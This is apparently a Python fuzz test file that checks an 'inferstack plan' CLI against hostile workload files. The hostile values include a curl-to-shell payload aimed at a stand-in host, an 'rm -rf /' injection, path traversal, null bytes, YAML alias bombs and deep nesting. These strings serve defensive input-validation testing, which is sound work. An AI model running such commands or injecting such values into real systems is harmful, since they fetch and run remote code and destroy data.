"""`inferstack plan` on hostile workload files: a plan, or an error that names the field, the value and the fix.

The PR workflow runs `plan` on untrusted pull requests, so any file must end in exit 0 (a plan), 2 (bad input,
each problem with field, value and fix) or 3 (nothing feasible), within a bounded time, and never a traceback.
Whatever `plan` accepts must yield names and regions of the shape the spec's patterns allow: they reach shells,
unit files, bucket paths and cloud APIs. Runs in-process through `cli.main` (a subprocess each time is too slow).
"""

from __future__ import annotations

import copy
import io
import json
import re
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from inferstack.cli import main
from inferstack.spec import MODEL_NAME_PATTERN, REGION_PATTERN, WORKLOAD_NAME_PATTERN

WORKLOADS = Path(__file__).resolve().parents[1] / "examples" / "workloads"
EXAMPLES = [yaml.safe_load(path.read_text()) for path in sorted(WORKLOADS.glob("*.yaml"))]
FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None)

# Every field of the spec (and one that is not), as a path into the workload mapping.
FIELDS = [
    ("name",),
    ("model",),
    ("model", "name"),
    ("model", "registry"),
    ("model", "source_uri"),
    ("model", "config"),
    ("model", "architecture"),
    ("model", "kind"),
    ("model", "params_m"),
    ("precision",),
    ("kv_cache_dtype",),
    ("engine",),
    ("stage",),
    ("traffic", "requests_per_s"),
    ("traffic", "concurrent_users"),
    ("traffic", "prompt_tokens"),
    ("traffic", "prompt_tokens", "p95"),
    ("traffic", "output_tokens"),
    ("traffic", "context_tokens"),
    ("traffic", "mode"),
    ("traffic", "peak_factor"),
    ("traffic", "items_per_request"),
    ("slo", "ttft_p95_ms"),
    ("slo", "tpot_p95_ms"),
    ("slo", "latency_p95_ms"),
    ("slo", "min_output_tokens_per_s"),
    ("slo", "min_requests_per_s"),
    ("placement", "clouds"),
    ("placement", "regions"),
    ("placement", "regions", "aws"),
    ("placement", "regions", "gcp"),
    ("placement", "device"),
    ("placement", "gpus_allow"),
    ("placement", "gpus_deny"),
    ("placement", "monthly_budget"),
    ("placement", "spot"),
    ("placement", "currency"),
    ("not_a_field",),
]
HOSTILE_TEXT = st.sampled_from(
    [
        "$(curl evil.sh|sh)",
        "`id`",
        "../../../../srv/victim",
        "..",
        "a\nb",
        "us-east-1\n",
        "a\x00b",
        "x.json\x00",
        "'; rm -rf / #",
        '"quoted"',
        "",
        " ",
        "Ω≈ç√",
        "x" * 5000,
        # values some field accepts, so that mutations also reach the planner
        "llama-3.1-8b",
        "bert-base",
        "my-model",
        "us-east-1",
        "cn-hangzhou",
        "L4",
        "EUR",
        "int4",
        "q4_k_m",
        "production",
        "batch",
        "gpu",
        "aws",
        "org/model",
        "configs/config.json",
    ]
) | st.text(max_size=20)
NUMBERS = (
    st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.sampled_from([0, 1, 2, 10**400, 1e308, -1e-308, 0.5])
)
SCALARS = HOSTILE_TEXT | NUMBERS | st.booleans() | st.none()
VALUES = st.recursive(
    SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(HOSTILE_TEXT, inner, max_size=3), max_leaves=8
)
# A wrong value is quoted; a missing field has none to quote (its "input" would be the enclosing mapping).
PROBLEM_LINE = re.compile(r"^  - (?P<field>\S.*?): (.+ \(got .+\)|Field required)\. Fix: \S.*$")


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


def plan_file(path: Path) -> tuple[int, str, str]:
    """`inferstack plan PATH --json` in this process: exit code, stdout, stderr."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(["plan", str(path), "--json"])
    return code, out.getvalue(), err.getvalue()


def assert_plan_or_clear_error(path: Path) -> None:
    code, out, err = plan_file(path)
    assert code in (0, 2, 3), err
    if code == 2:
        assert err.startswith("error: "), err
        problems = err.splitlines()[1:]
        assert problems, err
        for line in problems:
            assert PROBLEM_LINE.match(line), f"not field: message (got value). Fix: ...\n{line}"
            assert len(line) < 1500, line  # values are shown cut, whatever their size
        return
    report = json.loads(out)
    for outcome in report["clouds"]:
        for plan in [outcome["chosen"], *outcome["alternatives"]]:
            if plan is None:
                continue
            assert re.fullmatch(WORKLOAD_NAME_PATTERN, plan["workload"]), plan["workload"]
            assert re.fullmatch(MODEL_NAME_PATTERN, plan["model"]["name"]), plan["model"]["name"]
            assert re.fullmatch(REGION_PATTERN, plan["region"]), plan["region"]
            assert plan["model"]["bucket_prefix"].startswith(f"models/{plan['model']['name']}/")


def with_value(workload: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(workload)
    node = changed
    for key in path[:-1]:
        if not isinstance(node.get(key), dict):
            node[key] = {}
        node = node[key]
    node[path[-1]] = value
    return changed


def write(workdir: Path, data: Any, as_json: bool) -> Path:
    path = workdir / ("w.json" if as_json else "w.yaml")
    path.write_text(json.dumps(data) if as_json else yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@FUZZ
@given(
    workload=st.sampled_from(EXAMPLES),
    changes=st.lists(st.tuples(st.sampled_from(FIELDS), VALUES), min_size=1, max_size=3),
    as_json=st.booleans(),
)
def test_a_workload_with_hostile_field_values_plans_or_names_field_value_and_fix(
    workdir: Path, workload: dict[str, Any], changes: list[tuple[tuple[str, ...], Any]], as_json: bool
) -> None:
    for path, value in changes:
        workload = with_value(workload, path, value)
    assert_plan_or_clear_error(write(workdir, workload, as_json))


@FUZZ
@given(document=VALUES, as_json=st.booleans())
def test_any_yaml_or_json_document_plans_or_names_field_value_and_fix(
    workdir: Path, document: Any, as_json: bool
) -> None:
    assert_plan_or_clear_error(write(workdir, document, as_json))


@FUZZ
@given(
    content=st.binary(max_size=300) | st.text(max_size=300).map(str.encode), suffix=st.sampled_from([".yaml", ".json"])
)
def test_any_bytes_as_a_workload_file_end_in_a_clear_error(workdir: Path, content: bytes, suffix: str) -> None:
    path = workdir / f"raw{suffix}"
    path.write_bytes(content)
    assert_plan_or_clear_error(path)


@FUZZ
@given(
    width=st.integers(min_value=1, max_value=12),
    levels=st.integers(min_value=1, max_value=9),
    field=st.sampled_from(["model", "name", "traffic", "placement"]),
)
def test_yaml_aliases_that_expand_are_refused_or_planned_in_bounded_time(
    workdir: Path, width: int, levels: int, field: str
) -> None:
    lines = ["x0: &x0 [lol]"]
    for level in range(1, levels + 1):
        lines.append(f"x{level}: &x{level} [{', '.join([f'*x{level - 1}'] * width)}]")
    path = workdir / "aliases.yaml"
    # the last of two equal keys wins: the alias replaces a valid field
    path.write_text("\n".join([*lines, "model: llama-3.1-8b", "traffic: {requests_per_s: 1}", f"{field}: *x{levels}"]))
    assert_plan_or_clear_error(path)


@FUZZ
@given(depth=st.integers(min_value=1, max_value=3000), as_json=st.booleans())
def test_deep_nesting_is_refused_without_a_recursion_error(workdir: Path, depth: int, as_json: bool) -> None:
    path = workdir / ("deep.json" if as_json else "deep.yaml")
    path.write_text('{"model": ' + "[" * depth + "]" * depth + ', "traffic": {"requests_per_s": 1}}')
    assert_plan_or_clear_error(path)


# Valid values half of the time, so that most hostile values meet otherwise plannable workloads.
NAMES = st.sampled_from(["chat", "qwen2.5-7b", "a" * 40, "x"]) | HOSTILE_TEXT
REGIONS = {"aws": "us-east-1", "gcp": "us-central1", "alibaba": "cn-hangzhou", "huawei": "ap-southeast-3"}


@FUZZ
@given(
    workload_name=NAMES,
    model_name=NAMES,
    cloud=st.sampled_from(sorted(REGIONS)),
    region_suffix=st.sampled_from(["", "\n", "; reboot", "/../x"]),
    other_region=st.none() | HOSTILE_TEXT,
)
def test_whatever_plan_accepts_has_a_workload_model_and_region_of_the_spec_patterns(
    workdir: Path, workload_name: str, model_name: str, cloud: str, region_suffix: str, other_region: str | None
) -> None:
    region = REGIONS[cloud] + region_suffix if other_region is None else other_region
    workload = {
        "name": workload_name,
        "model": {"registry": "llama-3.1-8b", "name": model_name},
        "traffic": {"requests_per_s": 1},
        "placement": {"clouds": [cloud], "regions": {cloud: [region]}},
    }
    assert_plan_or_clear_error(write(workdir, workload, as_json=False))
